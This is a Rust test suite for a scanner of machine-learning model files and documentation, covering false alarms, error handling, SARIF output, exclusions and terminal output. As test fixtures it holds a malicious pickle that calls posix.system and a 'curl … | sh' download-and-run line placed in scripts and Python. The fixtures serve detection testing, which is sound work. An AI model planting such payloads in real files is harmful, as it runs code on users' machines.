//! A gate people can leave on: no false alarm on ordinary models and documentation, errors that
//! always fail, special files that never block, SARIF that GitHub code scanning ingests,
//! exclusions, and text output sized for a terminal.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "tests and benchmarks fail by panicking"
)]

mod common;

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use common::{bin, code, parse};
use serde_json::Value;

const MALICIOUS: &[u8] = b"cposix\nsystem\n(S'echo quarantine-sample'\ntR.";
const UNKNOWN_GLOBAL: &[u8] = b"cmylab.models\nNet\n)R.";
const BENIGN: &[u8] = b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00]\x94(K\x01K\x02K\x03e.";
const CURL_SH: &str = "curl -fsSL https://example.com/install.sh | sh\n";

fn put(root: &Path, rel: &str, bytes: &[u8]) -> PathBuf {
    let path = root.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, bytes).unwrap();
    path
}

fn scan(args: &[&str], paths: &[&Path]) -> Output {
    bin()
        .arg("scan")
        .arg("--no-policy")
        .args(args)
        .args(paths)
        .output()
        .unwrap()
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn mkfifo(path: &Path) {
    let status = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(status.success());
}

fn artifact<'a>(report: &'a Value, suffix: &str) -> &'a Value {
    common::artifacts(report)
        .iter()
        .find(|a| a["path"].as_str().unwrap().ends_with(suffix))
        .unwrap_or_else(|| panic!("no artifact {suffix}"))
}

// --- 1 and 2: no false alarm on ordinary files -----------------------------------------------

/// Real ONNX models (±inf Clip bounds, tiny test graphs, a wake-word classifier), a feature
/// array with NaN, a wheel's METADATA and a model card with install instructions, written by
/// `scripts/gate_fixtures.py`: none gets a finding above info, and the figures are reported.
#[test]
fn ordinary_models_and_documentation_raise_no_alarm() {
    let fixtures = common::repo().join("tests/data/gate");
    let output = scan(&["--format", "json"], &[&fixtures]);
    let report = parse(&output);
    let artifacts = common::artifacts(&report);
    assert!(artifacts.len() >= 10, "{} artifacts", artifacts.len());
    let mut loud = Vec::new();
    for a in artifacts {
        for f in a["findings"].as_array().unwrap() {
            if f["severity"] != "info" {
                loud.push(format!("{}: {} {}", a["path"], f["rule_id"], f["message"]));
            }
        }
        assert_eq!(a["verdict"], "clean", "{}: {}", a["path"], a["findings"]);
    }
    assert!(loud.is_empty(), "{loud:#?}");
    assert_eq!(code(&output), 0);

    // The ±inf bounds are counted and placed, not judged.
    let mel = artifact(&report, "openwakeword-melspectrogram.onnx");
    let weights = &mel["robustness"]["weights"];
    assert!(weights["inf"].as_u64().unwrap() > 0, "{weights}");
    assert_eq!(weights["unexpected_inf"], 0);
    assert!(
        weights["non_finite"]
            .as_array()
            .unwrap()
            .iter()
            .all(|n| n["place"] == "bound" || n["place"] == "mask"),
        "{weights}"
    );
    let npy = artifact(&report, "features-with-missing-values.npy");
    assert_eq!(npy["robustness"]["weights"]["nan"], 9);
    assert_eq!(
        npy["robustness"]["weights"]["non_finite"][0]["place"],
        "data"
    );

    // The model card and the wheel metadata mention download-and-run commands: notes.
    for doc in ["model-card/README.md", "dist-info/METADATA"] {
        let a = artifact(&report, doc);
        let notes: Vec<&Value> = a["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule_id"].as_str().unwrap().starts_with("YAR:"))
            .collect();
        if doc.ends_with("README.md") {
            assert!(!notes.is_empty(), "{doc}: {}", a["findings"]);
        }
        for note in notes {
            assert_eq!(note["severity"], "info");
            assert_eq!(note["signature"]["origin"], "documentation");
            assert!(
                note["message"]
                    .as_str()
                    .unwrap()
                    .contains("mentioned in documentation, not executed by loading")
            );
        }
    }
}

/// Robustness is measured by default and judged only under a gate.
#[test]
fn the_probe_measures_and_a_gate_decides() {
    let brittle = common::repo().join("samples/malicious/probe_brittle.onnx");
    let measured = scan(&["--format", "json"], &[&brittle]);
    assert_eq!(code(&measured), 0);
    let report = parse(&measured);
    let a = &common::artifacts(&report)[0];
    assert_eq!(a["verdict"], "clean");
    assert_eq!(a["robustness"]["grade"], "brittle");
    assert_eq!(a["robustness"]["behaviour"]["gated"], false);
    assert!(
        a["robustness"]["behaviour"]["epsilons"][1]["pgd_flip_rate"]
            .as_f64()
            .unwrap()
            > 0.25
    );

    for gate in [&["--probe-gate", "25%"][..], &["--probe-gate", "0.25"]] {
        let gated = scan(&[&["--format", "json"][..], gate].concat(), &[&brittle]);
        assert_eq!(code(&gated), 1);
        let report = parse(&gated);
        let a = &common::artifacts(&report)[0];
        assert_eq!(a["verdict"], "suspicious");
        assert_eq!(a["findings"][0]["rule_id"], "PRB003");
        assert_eq!(a["robustness"]["behaviour"]["gated"], true);
    }
    let lenient = scan(&["--probe-gate", "0.99"], &[&brittle]);
    assert_eq!(code(&lenient), 0);
    let bad = scan(&["--probe-gate", "2"], &[&brittle]);
    assert_eq!(code(&bad), 2);

    // The policy's gate, from a policy above the scanned file.
    let dir = tempfile::tempdir().unwrap();
    put(
        dir.path(),
        "quarantine.toml",
        b"[probe]\ngate_max_flip_rate = 0.25\n",
    );
    let model = put(
        dir.path(),
        "m/model.onnx",
        &std::fs::read(&brittle).unwrap(),
    );
    let by_policy = bin().arg("scan").arg(&model).output().unwrap();
    assert_eq!(code(&by_policy), 1, "{}", stdout(&by_policy));
}

/// The same download-and-run line is a note in documentation and as severe as its rule says in
/// code a loader or a user runs.
#[test]
fn signature_matches_know_documentation_from_code() {
    let dir = tempfile::tempdir().unwrap();
    let card = put(dir.path(), "README.md", CURL_SH.as_bytes());
    let notes = put(dir.path(), "docs/usage.rst", CURL_SH.as_bytes());
    let script = put(dir.path(), "install.sh", CURL_SH.as_bytes());
    let python = put(
        dir.path(),
        "setup_model.py",
        format!("import os\nos.system({CURL_SH:?})\n").as_bytes(),
    );
    let shebang = put(
        dir.path(),
        "run.txt",
        format!("#!/bin/sh\n{CURL_SH}").as_bytes(),
    );
    let output = scan(&["--format", "json"], &[dir.path()]);
    let report = parse(&output);
    for doc in [&card, &notes] {
        let a = artifact(&report, doc.file_name().unwrap().to_str().unwrap());
        assert_eq!(a["verdict"], "clean", "{}", a["findings"]);
        let f = &a["findings"][0];
        assert_eq!(f["severity"], "info");
        assert_eq!(f["verdict"], "clean");
        assert_eq!(f["rule_id"], "YAR:download_exec.curl_pipe_shell");
        assert_eq!(f["location"]["line"], 1);
    }
    for code_file in [&script, &python, &shebang] {
        let a = artifact(&report, code_file.file_name().unwrap().to_str().unwrap());
        assert_eq!(a["verdict"], "malicious", "{}", a["findings"]);
        assert_eq!(a["findings"][0]["severity"], "critical");
    }
}

/// Every shipped signature rule says where it applies.
#[test]
fn every_shipped_rule_declares_its_origins() {
    for entry in std::fs::read_dir(common::repo().join("signatures")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "yar") {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap();
        let rules = text.lines().filter(|l| l.starts_with("rule ")).count();
        let origins = text
            .lines()
            .filter(|l| l.trim_start().starts_with("origins = "))
            .count();
        assert_eq!(rules, origins, "{}", path.display());
    }
}

// --- 3 and 4: errors fail closed, special files never block ----------------------------------

#[test]
fn errors_fail_the_run_whatever_fail_on_says() {
    let dir = tempfile::tempdir().unwrap();
    put(dir.path(), "good.pkl", BENIGN);
    put(dir.path(), "odd.pkl", UNKNOWN_GLOBAL);
    std::os::unix::fs::symlink("/nonexistent/target", dir.path().join("dangling")).unwrap();
    let root = dir.path();

    let output = scan(&["--fail-on", "malicious", "--format", "json"], &[root]);
    assert_eq!(code(&output), 1, "an error fails under --fail-on malicious");
    let report = parse(&output);
    assert_eq!(report["summary"]["error"], 1);
    let allowed = scan(&["--fail-on", "malicious", "--allow-errors"], &[root]);
    assert_eq!(code(&allowed), 0);
    let allowed = scan(&["--allow-errors"], &[root]);
    assert_eq!(code(&allowed), 1, "--allow-errors does not pass suspicious");

    // A path on the command line that does not exist is a usage error.
    let missing = scan(
        &["--fail-on", "malicious"],
        &[Path::new("/nonexistent/model.pt")],
    );
    assert_eq!(code(&missing), 2);
    assert!(String::from_utf8_lossy(&missing.stderr).contains("/nonexistent/model.pt"));

    // merge applies the same rule.
    let jsonl = scan(&["--format", "jsonl"], &[root]);
    let file = put(root, "run.jsonl", &jsonl.stdout);
    let merged = bin()
        .args(["merge", "--fail-on", "malicious"])
        .arg(&file)
        .output()
        .unwrap();
    assert_eq!(code(&merged), 1);

    // The table is in --help and the README.
    let help = stdout(&bin().args(["scan", "--help"]).output().unwrap());
    let readme = std::fs::read_to_string(common::repo().join("README.md")).unwrap();
    for needle in ["Exit codes", "--allow-errors", "does not exist"] {
        assert!(help.contains(needle), "--help lacks {needle}");
        assert!(readme.contains(needle), "README lacks {needle}");
    }
    assert!(help.contains(".git"), "--help says what is skipped");
}

#[test]
fn special_files_are_errors_and_never_block() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("model.pt");
    mkfifo(&fifo);
    let mut child = bin()
        .args(["scan", "--no-policy", "--format", "json"])
        .arg(&fifo)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let start = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if start.elapsed() > Duration::from_secs(30) {
            child.kill().unwrap();
            // Unblock a reader, if any, so the test ends.
            let _ = std::fs::OpenOptions::new().write(true).open(&fifo);
            panic!("a FIFO on the command line hangs the scan");
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    assert_eq!(status.code(), Some(1));
    let mut out = String::new();
    child.stdout.unwrap().read_to_string(&mut out).unwrap();
    let report: Value = serde_json::from_str(&out).unwrap();
    let a = &common::artifacts(&report)[0];
    assert_eq!(a["verdict"], "error");
    assert!(a["error"].as_str().unwrap().contains("FIFO"), "{a}");

    // In a walk too, beside a clean file.
    put(dir.path(), "ok.pkl", BENIGN);
    let output = scan(&["--format", "json"], &[dir.path()]);
    assert_eq!(code(&output), 1);
    let report = parse(&output);
    assert_eq!(report["summary"]["error"], 1);
    assert_eq!(report["summary"]["clean"], 1);
}

// --- 5: SARIF for GitHub code scanning -------------------------------------------------------

/// What GitHub code scanning requires of an upload, as its documentation ("SARIF support for
/// code scanning") and the SARIF SDK's GitHub rules (GH1001-GH1007) state it.
fn github_ingestion_problems(sarif: &Value) -> Vec<String> {
    let mut problems = Vec::new();
    let mut problem = |p: String| problems.push(p);
    if sarif["version"] != "2.1.0" {
        problem("version is not 2.1.0".into());
    }
    let runs = sarif["runs"].as_array().cloned().unwrap_or_default();
    if runs.is_empty() || runs.len() > 20 {
        problem(format!("{} runs (1 to 20)", runs.len()));
    }
    for run in &runs {
        let driver = &run["tool"]["driver"];
        if !driver["name"].is_string() {
            problem("tool.driver.name missing".into());
        }
        let rules = driver["rules"].as_array().cloned().unwrap_or_default();
        if rules.len() > 25_000 {
            problem("more than 25,000 rules".into());
        }
        for rule in &rules {
            let id = rule["id"].as_str().unwrap_or("?");
            if !rule["shortDescription"]["text"].is_string() {
                problem(format!("rule {id}: no shortDescription"));
            }
            if !rule["help"]["text"].is_string() || !rule["help"]["markdown"].is_string() {
                problem(format!("rule {id}: no help text and markdown"));
            }
            let tags = rule["properties"]["tags"].as_array().map_or(0, Vec::len);
            if tags > 20 {
                problem(format!("rule {id}: more than 20 tags"));
            }
            match rule["properties"]["security-severity"]
                .as_str()
                .and_then(|s| s.parse::<f64>().ok())
            {
                Some(s) if (0.0..=10.0).contains(&s) => {}
                _ => problem(format!("rule {id}: security-severity not a number 0-10")),
            }
            if let Some(uri) = rule.get("helpUri")
                && !uri.as_str().is_some_and(|u| u.starts_with("https://"))
            {
                problem(format!("rule {id}: helpUri {uri}"));
            }
        }
        let base = &run["originalUriBaseIds"]["%SRCROOT%"]["uri"];
        if !base
            .as_str()
            .is_some_and(|u| u.starts_with("file:///") && u.ends_with('/'))
        {
            problem(format!("originalUriBaseIds %SRCROOT% is {base}"));
        }
        let results = run["results"].as_array().cloned().unwrap_or_default();
        if results.len() > 25_000 {
            problem("more than 25,000 results".into());
        }
        for (i, result) in results.iter().enumerate() {
            if !result["ruleId"].is_string() {
                problem(format!("result {i}: no ruleId"));
            }
            if !result["message"]["text"].is_string() {
                problem(format!("result {i}: message is not flat text"));
            }
            let locations = result["locations"].as_array().cloned().unwrap_or_default();
            if locations.is_empty() || locations.len() > 1000 {
                problem(format!("result {i}: {} locations", locations.len()));
            }
            for location in &locations {
                let physical = &location["physicalLocation"];
                let uri = physical["artifactLocation"]["uri"].as_str().unwrap_or("");
                let relative = !uri.is_empty() && !uri.contains(':') && !uri.starts_with('/');
                if !relative && !uri.starts_with("file:///") {
                    problem(format!(
                        "result {i}: uri {uri} is neither relative nor file:"
                    ));
                }
                if physical["region"]["startLine"]
                    .as_u64()
                    .is_none_or(|l| l == 0)
                {
                    problem(format!("result {i}: no region.startLine"));
                }
            }
            if !result["partialFingerprints"].is_object() {
                problem(format!("result {i}: no partialFingerprints"));
            }
        }
    }
    problems
}

fn schema_problems(sarif: &Value) -> Option<Vec<String>> {
    let path = common::repo().join("../shared/schemas/sarif-schema-2.1.0.json");
    let schema: Value = serde_json::from_str(&std::fs::read_to_string(path).ok()?).unwrap();
    let validator = jsonschema::options()
        .should_validate_formats(true)
        .build(&schema)
        .unwrap();
    Some(
        validator
            .iter_errors(sarif)
            .map(|e| format!("{e} at {}", e.instance_path()))
            .take(20)
            .collect(),
    )
}

#[test]
fn sarif_is_relative_to_the_repository_and_ingestible_by_github() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().canonicalize().unwrap();
    std::fs::create_dir(repo.join(".git")).unwrap();
    put(&repo, "models/bad.pkl", MALICIOUS);
    put(&repo, "models/odd.pkl", UNKNOWN_GLOBAL);
    put(&repo, "models/README.md", CURL_SH.as_bytes());
    put(
        &repo,
        "models/install.sh",
        format!("echo hi\n{CURL_SH}").as_bytes(),
    );
    let run_in = |cwd: &Path, extra: &[&str]| {
        bin()
            .current_dir(cwd)
            .args(["scan", "--no-policy", "--format", "sarif"])
            .args(extra)
            .arg(".")
            .output()
            .unwrap()
    };
    // Scanned from inside `models/`: URIs are still relative to the repository root.
    let output = run_in(&repo.join("models"), &[]);
    assert_eq!(code(&output), 1);
    let sarif = parse(&output);
    if let Some(errors) = schema_problems(&sarif) {
        assert!(
            errors.is_empty(),
            "SARIF is not valid:\n{}",
            errors.join("\n")
        );
    }
    let problems = github_ingestion_problems(&sarif);
    assert!(problems.is_empty(), "{problems:#?}");

    let run = &sarif["runs"][0];
    assert_eq!(
        run["originalUriBaseIds"]["%SRCROOT%"]["uri"],
        format!("file://{}/", repo.display())
    );
    let results = run["results"].as_array().unwrap();
    let uri_of = |r: &Value| {
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let bad = results
        .iter()
        .find(|r| r["ruleId"] == "PKL001")
        .expect("PKL001");
    assert_eq!(uri_of(bad), "models/bad.pkl");
    assert_eq!(
        bad["locations"][0]["physicalLocation"]["artifactLocation"]["uriBaseId"],
        "%SRCROOT%"
    );
    assert_eq!(
        bad["locations"][0]["physicalLocation"]["region"]["startLine"],
        1
    );
    let script = results
        .iter()
        .find(|r| uri_of(r) == "models/install.sh")
        .expect("a result in install.sh");
    let region = &script["locations"][0]["physicalLocation"]["region"];
    assert_eq!(region["startLine"], 2, "the match's line");
    assert_eq!(region["byteOffset"], 8);
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let curl = rules
        .iter()
        .find(|r| r["id"] == "YAR:download_exec.curl_pipe_shell")
        .expect("shipped signature rules are described");
    assert!(
        curl["help"]["markdown"]
            .as_str()
            .unwrap()
            .contains("**Fix:**")
    );

    // --sarif-root moves the base.
    let output = run_in(&repo.join("models"), &["--sarif-root", "."]);
    let sarif = parse(&output);
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert!(results.iter().any(|r| uri_of(r) == "bad.pkl"));
}

// --- 6: exclusions ---------------------------------------------------------------------------

#[test]
fn exclusions_leave_out_what_they_name_and_in_tree_policies_cannot() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    put(
        root,
        ".venv/lib/python3.11/site-packages/x.pyc",
        b"\xa7\r\r\n\x00\x00",
    );
    put(root, "models/model.pkl", BENIGN);
    put(root, "models/notes.bin", b"\x00\x01\x02\x03");

    let all = scan(&["--format", "json"], &[root]);
    assert_eq!(parse(&all)["summary"]["artifacts"], 3);
    let venv = scan(&["--format", "json", "--exclude", ".venv"], &[root]);
    assert_eq!(parse(&venv)["summary"]["artifacts"], 2);
    let only = scan(
        &[
            "--format",
            "json",
            "--exclude",
            ".venv",
            "--include",
            "*.pkl",
        ],
        &[root],
    );
    assert_eq!(code(&only), 0);
    let report = parse(&only);
    assert_eq!(report["summary"]["artifacts"], 1);
    assert_eq!(
        common::artifacts(&report)[0]["relative_path"],
        "models/model.pkl"
    );
    assert_eq!(code(&scan(&["--exclude", "a["], &[root])), 2);

    // A policy inside the scanned tree may not leave files out; named with --policy it may.
    put(root, "quarantine.toml", b"exclude = [\"models\"]\n");
    let refused = bin().arg("scan").arg(root).output().unwrap();
    assert_eq!(code(&refused), 2);
    assert!(String::from_utf8_lossy(&refused.stderr).contains("exclude"));
    let given = bin()
        .arg("scan")
        .args(["--format", "json", "--policy"])
        .arg(root.join("quarantine.toml"))
        .arg(root)
        .output()
        .unwrap();
    let report = parse(&given);
    assert!(
        common::artifacts(&report)
            .iter()
            .all(|a| !a["path"].as_str().unwrap().contains("models/")),
        "{report}"
    );
}

// --- 7: output sized for a terminal ----------------------------------------------------------

#[test]
fn text_output_is_sized_for_a_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let robust = common::repo().join("samples/benign/probe_robust.onnx");
    put(root, "a/robust.onnx", &std::fs::read(robust).unwrap());
    put(root, "b/good.pkl", BENIGN);
    put(root, "c/bad.pkl", MALICIOUS);
    put(root, "d/README.md", CURL_SH.as_bytes());

    let text = stdout(&scan(&["--color", "never"], &[root]));
    let lines: Vec<&str> = text.lines().collect();
    let clean: Vec<&&str> = lines.iter().filter(|l| l.starts_with("clean ")).collect();
    assert_eq!(clean.len(), 3, "{text}");
    assert!(
        !text.contains("epsilon"),
        "no probe table without -v:\n{text}"
    );
    assert!(lines.iter().any(|l| l.starts_with("malicious")), "{text}");
    assert!(text.contains("1 note (-v)"), "{text}");
    let before_bad = lines.iter().position(|l| l.contains("bad.pkl")).unwrap();
    let after_bad = lines.iter().position(|l| l.contains("README.md")).unwrap();
    assert!(
        after_bad - before_bad > 2,
        "findings of the malicious file shown:\n{text}"
    );
    assert!(text.contains("4 artifacts scanned"), "{text}");

    let verbose = stdout(&scan(&["--color", "never", "-v"], &[root]));
    assert!(verbose.contains("epsilon"), "{verbose}");
    assert!(verbose.contains("mentioned in documentation"), "{verbose}");

    let quiet = scan(&["--color", "never", "--quiet"], &[root]);
    let quiet = stdout(&quiet);
    let lines: Vec<&str> = quiet.lines().collect();
    assert!(lines.first().unwrap().starts_with("malicious"), "{quiet}");
    assert!(lines.iter().all(|l| !l.starts_with("clean ")), "{quiet}");
    assert!(
        lines
            .last()
            .unwrap()
            .starts_with("malicious: 4 artifacts scanned"),
        "the verdict line is never dropped:\n{quiet}"
    );
    let clean_only = stdout(&scan(&["--quiet"], &[&root.join("b")]));
    assert_eq!(
        clean_only.trim(),
        "clean: 1 artifact scanned, 1 clean, 0 suspicious, 0 malicious, 0 error"
    );

    let summary = stdout(&scan(&["--format", "summary", "--color", "never"], &[root]));
    let lines: Vec<&str> = summary.lines().collect();
    assert_eq!(lines.len(), 4 + 3, "{summary}");
    let bad = lines.iter().find(|l| l.contains("bad.pkl")).unwrap();
    assert!(bad.starts_with("malicious") && bad.contains("pickle") && bad.contains("PKL001"));
    let good = lines.iter().find(|l| l.contains("good.pkl")).unwrap();
    assert!(good.ends_with(" -"), "{good}");
}
